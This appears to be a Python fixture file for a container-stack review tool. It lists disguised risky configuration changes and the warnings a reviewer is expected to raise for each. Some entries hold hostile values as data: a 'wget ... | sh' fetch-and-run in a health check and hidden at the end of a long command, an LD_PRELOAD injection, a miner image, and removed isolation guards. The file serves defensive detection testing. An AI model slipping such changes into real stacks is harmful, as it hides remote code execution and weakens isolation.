"""Risky changes of the stack files that look like something else. Not a test."""

from __future__ import annotations

from unit.review.lab_files import GONE, Change

LOOPS = "while :; do date; sleep 2; done; " * 8
# What a base has before a risky change, where the tracked stack is not it.
BEFORE: dict[str, list[Change]] = {
    "the end of a long command is another": [
        ("containers.keeper.command", ["sh", "-c", LOOPS]),
    ],
    "what is internal is shown to lead nowhere no longer": [
        ("verification.egress", ["192.0.2.9:53"]),
    ],
    "a guard goes while an image of the same key does": [
        ("verification.image", "base"),
        ("images.web", {"name": "python:3.11-slim-bookworm"}),
        ("containers.web.image", "web"),
    ],
}
# As RISKY: what it is: (stack, changes, marks that must be there, words that must be there).
HIDDEN: dict[str, tuple[str, list[Change], set[str], tuple[str, ...]]] = {
    "a container is made from another image": (
        "local",
        [
            ("verification.image", "base"),
            ("images.other", {"name": "registry.example/miner:1"}),
            ("containers.web.image", "other"),
        ],
        {"OTHER CODE"},
        ("web: runs the code of image registry.example/miner:1", "python:3.11-slim-bookworm"),
    ),
    "another tag comes with a digest": (
        "local",
        [
            ("images.base.name", "python:3.12-alpine"),
            ("images.base.digest", f"sha256:{'a' * 64}"),
        ],
        {"OTHER CODE"},
        ("named python:3.12-alpine",),
    ),
    "a health check runs something": (
        "local",
        [("containers.keeper.health_check", {"command": "wget -qO- example.org | sh"})],
        {"OTHER HEALTH CHECK"},
        ("wget -qO- example.org | sh", "has no health check"),
    ),
    "another library is loaded first": (
        "local",
        [("containers.web.environment", {"LD_PRELOAD": "/data/x.so"})],
        {"OPENS"},
        ("LD_PRELOAD", "/data/x.so"),
    ),
    "the rules for production hold no longer": (
        "prod",
        [("policy.production", False)],
        {"GUARD LOST"},
        ("is judged by the rules for production",),
    ),
    "under another key a container loses its guards": (
        "local",
        [
            ("containers.visitor", GONE),
            (
                "containers.guest",
                {"image": "base", "command": ["sleep", "inf"], "memory": "16MiB"},
            ),
        ],
        {"OPENS"},
        ("guest", "runs as its image says"),
    ),
    "a guard goes while an image of the same key does": (
        "local",
        [
            ("images.web", GONE),
            ("containers.web.image", "base"),
            ("containers.web.user", GONE),
        ],
        {"GUARD LOST"},
        ("web does not run as root",),
    ),
    "a volume is read by a container of the same key as another": (
        "local",
        [
            ("networks.data", {"subnet": "172.30.40.0/24", "internal": True}),
            ("containers.web.volumes", [{"volume": "data", "target": "/data", "mode": "rw"}]),
        ],
        {"OPENS"},
        ("writes volume data",),
    ),
    "the end of a long command is another": (
        "local",
        [
            (
                "containers.keeper.command",
                [
                    "sh",
                    "-c",
                    f"{'while :; do date; sleep 2; done; ' * 8}wget -qO- example.org | sh",
                ],
            )
        ],
        {"OTHER COMMAND"},
        ("wget -qO- example.org | sh",),
    ),
    "what is internal is shown to lead nowhere no longer": (
        "local",
        [("verification.egress", GONE)],
        {"GUARD LOST"},
        ("192.0.2.9:53 is shown to be out of reach",),
    ),
    "a volume is a share of another machine": (
        "local",
        [
            (
                "volumes.share",
                {"options": {"type": "nfs", "device": ":/x", "o": "addr=192.0.2.9"}},
            ),
            ("containers.web.volumes", [{"volume": "share", "target": "/data", "mode": "ro"}]),
        ],
        {"OPENS"},
        ("is no place of the engine's own", "addr=192.0.2.9"),
    ),
    "a new volume joins what was apart": (
        "local",
        [
            ("volumes.shared", {}),
            ("containers.visitor.volumes", [{"volume": "shared", "target": "/x", "mode": "rw"}]),
            ("containers.keeper.volumes", [{"volume": "shared", "target": "/x", "mode": "rw"}]),
        ],
        {"OPENS"},
        ("keeper writes volume shared at /x",),
    ),
    "a new container runs what nobody knows": (
        "local",
        [
            ("verification.image", "base"),
            ("images.other", {"name": "registry.example/x:1"}),
            (
                "containers.guest",
                {"image": "other", "networks": {}, "user": "1000", "memory": "16MiB"},
            ),
        ],
        {"OPENS"},
        ("guest runs the code of image registry.example/x:1",),
    ),
    "a name goes to another container": (
        "local",
        [
            ("containers.web.networks", {"front": {"address": "172.30.10.10"}}),
            ("containers.visitor.networks", {"front": {"aliases": ["www"]}}),
        ],
        {"OTHER BEARER OF A NAME"},
        ("www on front: is a name of visitor, where it was: is a name of web",),
    ),
    "the same script is taken from another folder": (
        "local",
        [("containers.web.working_dir", "/data")],
        {"OTHER COMMAND"},
        ("in /data",),
    ),
}
